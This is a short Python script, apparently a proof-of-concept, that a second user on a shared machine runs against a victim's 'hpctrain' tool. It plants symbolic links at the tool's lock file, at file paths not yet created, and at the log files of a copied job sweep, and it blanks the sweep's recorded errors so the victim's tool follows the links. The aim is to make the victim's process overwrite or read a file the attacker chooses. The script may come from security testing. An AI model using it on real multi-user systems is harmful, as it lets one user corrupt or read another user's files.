"""Run as ANOTHER user: plant symbolic links where the victim's hpctrain creates or reads files.

python3 plant_links.py lock SWEEP_DIR TARGET     .hpctrain/submit.lock -> TARGET (a file of the victim's)
python3 plant_links.py dangling DIR NAME TARGET  DIR/NAME -> TARGET (not existing yet: created through?)
python3 plant_links.py logs SRC_SWEEP DST TARGET a copy of a finished sweep (SRC) in DST, our own, with its
                                                 errors dropped and every .submitit/*_log.err -> TARGET
"""

import glob
import json
import os
import shutil
import sys

mode = sys.argv[1]
if mode == "lock":
    hp = os.path.join(sys.argv[2], ".hpctrain")
    os.makedirs(hp, exist_ok=True)
    os.symlink(sys.argv[3], os.path.join(hp, "submit.lock"))
elif mode == "dangling":
    os.symlink(sys.argv[4], os.path.join(sys.argv[2], sys.argv[3]))
elif mode == "logs":
    src, dst, target = sys.argv[2:5]
    shutil.copytree(src, dst, symlinks=True, ignore=shutil.ignore_patterns("code", "*.pkl"))
    every = [os.path.join(d, n) for d, _, names in os.walk(dst) for n in names]
    for path in every:  # the copy's paths are its own
        if path.endswith((".json", ".yaml")) and not os.path.islink(path):
            with open(path) as f:
                text = f.read()
            with open(path, "w") as f:
                f.write(text.replace(src, dst))
    for path in [p for p in every if p.endswith(".json")]:  # no recorded error: the log tail is read
        try:
            with open(path) as f:
                data = json.load(f)
        except (OSError, ValueError):
            continue
        if isinstance(data, dict) and "error" in data:
            data["error"] = None
            with open(path, "w") as f:
                json.dump(data, f)
    for log in glob.glob(os.path.join(dst, ".submitit", "*_log.*")):
        os.remove(log)
        os.symlink(target, log)
print("planted")
